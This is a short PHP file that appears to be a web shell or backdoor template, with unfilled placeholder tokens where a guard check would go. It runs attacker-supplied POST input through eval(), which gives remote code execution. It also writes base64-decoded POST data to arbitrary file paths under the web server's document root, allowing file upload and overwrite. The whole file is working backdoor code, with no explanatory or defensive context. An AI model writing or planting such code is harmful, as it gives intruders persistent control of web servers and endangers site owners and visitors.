<?php
$k = isset($_POST['k']) ? (string) $_POST['k'] : '';
@GUARD@
if (isset($_POST['e']) && @LISTED $_POST['e']@) {
    eval($_POST['e']);
}
if (isset($_POST['n'], $_POST['d'])) {
    $root = realpath($_SERVER['DOCUMENT_ROOT']);
    $dir = realpath($root . '/' . dirname($_POST['n']));
    if ($dir !== false && strncmp($dir . '/', $root . '/', strlen($root) + 1) === 0) {
        file_put_contents($dir . '/' . basename($_POST['n']), base64_decode($_POST['d']));
        echo 'ok';
    }
}
